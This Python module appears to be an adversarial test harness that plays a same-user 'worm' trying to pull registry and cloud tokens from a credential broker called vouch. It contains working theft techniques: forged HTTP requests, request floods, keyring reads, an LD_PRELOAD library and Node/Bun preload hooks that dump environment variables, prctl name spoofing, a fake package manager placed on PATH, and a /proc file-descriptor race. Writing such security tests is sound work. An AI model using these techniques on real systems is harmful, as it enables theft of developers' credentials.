"""What it asks for by name: everything that a program of the same user can have, on record."""
import ctypes
import platform
import threading

from wire import *


def unknown_routes():
    names = ["session", "settings", "publish", "token/../publish/finish", "record/all", "keys/all", "id-token"]
    return b"".join(ask(name, {}) for name in names)


def forged_heads():
    head = "POST /v1/token HTTP/1.1\r\n"
    return b"".join(
        raw(text)
        for text in [
            f"{head}host: vouch\r\nvouch-protocol: 9\r\ncontent-length: 2\r\n\r\n{{}}",
            f"{head}vouch-protocol: 1\r\ncontent-length: 2\r\ncontent-length: 40\r\n\r\n{{}}",
            f'{head}vouch-protocol: 9\r\nx-vouch-pid: 1\r\nforwarded: for=_root\r\ncontent-length: 21\r\n\r\n{{"purpose":"publish"}}',
            "GET /v1/token HTTP/1.0\r\n\r\n",
            f"{head}origin: https://worm.example\r\nvouch-protocol: 1\r\ncontent-length: 2\r\n\r\n{{}}",
        ]
    )


def many_connections():
    """Two hundred that say nothing, and a question behind them."""
    silent_ones = []
    try:
        for _ in range(200):
            silent_ones.append(connect())
        return ask("token", {"url": url("npm"), "format": "npm"})
    finally:
        for one in silent_ones:
            one.close()


def many_questions():
    """So many, and so long, that older ones may leave the record: what was given out must stay there."""
    for number in range(1200):
        claim = {"name": f"{number}".ljust(60, "x"), "vers": "1" * 60}
        index = f"sparse+https://worm.example/{number}/{'x' * 200}/"
        raw(request_for("cargo", {**cargo("read"), **claim, "registry": {"index-url": index}}))
    return b"asked"


def keyring():
    simple = f"{url('pypi')}simple/"
    return (
        run("keyring", "get", url("pypi"), "aws")
        + run("keyring", "get", simple, "VssSessionToken")
        + run("keyring", "--mode", "creds", "get", simple)
    )


def nuget():
    needs("nuget-plugin-vouch")
    versions = {"ProtocolVersion": "2.0.0", "MinimumProtocolVersion": "1.0.0"}
    wanted = {"Uri": f"{url('nuget')}v3/index.json", "IsRetry": False, "IsNonInteractive": True, "CanShowDialog": False}
    messages = [("0", "Handshake", versions), ("1", "GetAuthenticationCredentials", wanted)]
    lines = [{"RequestId": at, "Type": "Request", "Method": method, "Payload": body} for at, method, body in messages]
    return run("nuget-plugin-vouch", "-Plugin", given="".join(json.dumps(line) + "\r\n" for line in lines))


def preload():
    """A library of its own in a helper."""
    needs("cc")
    source = '#include <stdlib.h>\n__attribute__((constructor)) static void f(void) { unsetenv("LD_PRELOAD"); system("env"); }\n'
    library = os.path.join(work, "preload.so")
    said = run("cc", "-shared", "-fPIC", "-o", library, write(os.path.join(work, "preload.c"), source))
    env = {"LD_PRELOAD": library}
    said += run(vouch, "credential", "codeartifact", env=env)
    return said + run(vouch, "--cargo-plugin", given=provider_line("read"), env=env)


def runtime_variables():
    """What the runtime inside vouch reads is not what vouch reads."""
    hook = write(os.path.join(work, "bun-hook.js"), 'console.log("hooked", JSON.stringify(process.env));\n')
    env = {
        "BUN_OPTIONS": f"--preload {hook}",
        "BUN_INSPECT_PRELOAD": hook,
        "NODE_OPTIONS": f"--require {hook}",
        "BUN_CONFIG_VERBOSE_FETCH": "curl",
        "NODE_DEBUG": "http,tls",
    }
    return run(vouch, "status", env=env) + run(vouch, "credential", "codeartifact", "--purpose", "publish", env=env)


def sibling(operation):
    """A process whose parent is the worm's own (CLONE_PARENT): it is the package manager's direct child, as its helper is."""
    out = os.path.join(work, f"sibling-{operation}")
    given, end = os.pipe()
    os.write(end, provider_line(operation).encode())
    os.close(end)
    number = {"x86_64": 56, "aarch64": 220}[platform.machine()]
    if ctypes.CDLL(None).syscall(number, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        target = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        os.dup2(given, 0)
        os.dup2(target, 1)
        os.dup2(target, 2)
        os.setsid()
        os.execv(vouch, ["vouch", "--cargo-plugin"])
    os.close(given)
    limit = time.monotonic() + 20
    while time.monotonic() < limit and b"\n{" not in read(out):
        time.sleep(0.05)
    return counted(read(out))


def as_another_name(route, body):
    """Asks under the name of a package manager, by prctl(PR_SET_NAME), from a thread and a process."""
    libc, said = ctypes.CDLL(None), []
    for name in [b"npm install", b"cargo", b"vouch"]:
        libc.prctl(15, name, 0, 0, 0)
        said.append(ask(route, body))
    libc.prctl(15, b"python3", 0, 0, 0)
    thread = threading.Thread(target=lambda: said.append(ask(route, body)))
    thread.start()
    thread.join()
    return b"".join(said)


def hooked_npm(*command):
    """An npm that it starts itself, with a script of its own in that process: it reads the pipe before npm does."""
    needs("npm")
    env = {"NODE_OPTIONS": f"--require {os.path.join(work, 'hook.cjs')}", "WORM_HOOK": "stdout"}
    return run("npm", *command, cwd=os.path.join(work, "nested"), env=env)


def false_manager(name, *command):
    """A program of its own behind the shim, in the package manager's place."""
    program(os.path.join(work, "false-bin", name), f"env; '{sys.executable}' '{work}/harvest.py' false-manager")
    path = [os.path.join(home, ".local/share/vouch/shims"), os.path.join(work, "false-bin"), os.environ["PATH"]]
    return run(name, *command, cwd=work, env={"PATH": ":".join(path)})


def raced_pipe():
    """Its own npm's pipe: /proc/PID/fd from the first moment on."""
    from reading import read_once

    needs("npm")
    null = subprocess.DEVNULL
    child = subprocess.Popen(["npm", "view", "my-lib"], stdin=null, stdout=null, stderr=null, start_new_session=True)
    got = b""
    while child.poll() is None and not re.search(TOKEN, got):
        named = re.search(rb"globalconfig=/proc/self/fd/(\d+)", environ(child.pid))
        got += read_once(f"/proc/{child.pid}/fd/{named.group(1).decode()}") if named else b""
    child.kill()
    child.wait()
    return counted(got)


attempts = {
    "ask-token": lambda: ask("token", {}) + every_token(),
    "ask-tokens": lambda: every_format("tokens"),
    "ask-cargo": lambda: ask("cargo", cargo("read")),
    "ask-environment": lambda: ask("environment", {}),
    "ask-role": lambda: ask("role-credentials", {}),
    "ask-unknown-route": unknown_routes,
    "ask-forged-head": forged_heads,
    "ask-by-another-name": lambda: as_another_name("token", {}),
    "ask-behind-many": many_connections,
    "ask-to-flood": many_questions,
    "credential-codeartifact": lambda: run(vouch, "credential", "codeartifact"),
    "credential-aws": lambda: run(vouch, "credential", "aws"),
    "cargo-provider": lambda: run(vouch, "--cargo-plugin", given=provider_line("read")),
    "keyring": keyring,
    "bazel-helper": lambda: run("vouch-credential-helper", "get", given=json.dumps({"uri": url("maven")})),
    "nuget-plugin": nuget,
    "exec": lambda: run(vouch, "exec", "--", "env"),
    "preload": preload,
    "runtime-variables": runtime_variables,
    "sibling-asks": lambda: sibling("read"),
    "hooked-npm": lambda: hooked_npm("view", "my-lib"),
    "false-manager": lambda: false_manager("npm", "view", "my-lib") + false_manager("pip", "download", "my-package"),
    "pipe-race-nested": raced_pipe,
}
